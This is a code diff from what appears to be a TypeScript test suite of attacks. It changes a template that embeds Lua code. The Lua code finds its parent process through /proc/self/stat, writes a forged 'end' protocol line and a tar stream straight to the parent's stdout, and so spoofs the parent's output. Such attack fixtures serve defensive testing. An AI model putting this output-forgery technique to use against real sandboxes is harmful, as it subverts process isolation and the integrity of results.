@@ -25,7 +25,7 @@ const forge = ({ dropRelative }: Stage) => `${luaTar(['document.pdf', `${dropRel
   local status = io.open('/proc/self/stat'):read('*a')
   local parent = string.match(status, '[)] . ([0-9]+)')
   local out = io.open('/proc/' .. parent .. '/fd/1', 'wb')
-  if out then out:write('end 0 1 1000000 1000000' .. string.char(10) .. tar) out:close() end`
+  if out then out:write('end 0 1' .. string.char(10) .. tar) out:close() end`
 
 export const writing: Attack[] = [
   {
